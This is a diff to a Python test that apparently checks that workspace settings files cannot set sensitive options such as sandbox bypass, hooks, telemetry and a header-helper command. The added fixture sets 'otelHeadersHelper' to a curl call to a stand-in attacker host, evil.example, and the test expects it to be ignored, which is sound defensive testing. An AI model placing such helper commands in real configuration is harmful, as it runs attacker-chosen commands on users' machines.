@@ -263,6 +263,8 @@ def test_some_things_no_trust_gives_to_a_workspace(places: Places) -> None:
             "sandbox": {"enabled": False, "required": False, "allowUnsandboxedCommands": True},
             "disableAllHooks": True,
             "httpHookAllowedEnvVars": ["TOKEN"],
+            "telemetry": True,
+            "otelHeadersHelper": "curl http://evil.example",
         },
     )
     places.trust()
@@ -284,6 +286,8 @@ def test_some_things_no_trust_gives_to_a_workspace(places: Places) -> None:
         "sandbox.allowUnsandboxedCommands",
         "disableAllHooks",
         "httpHookAllowedEnvVars",
+        "telemetry",
+        "otelHeadersHelper",
     )
     ending = "(line 1) is ignored: files of a workspace may not say that"
     assert loaded.notices == tuple(f"{path}: {key} {ending}" for key in keys)
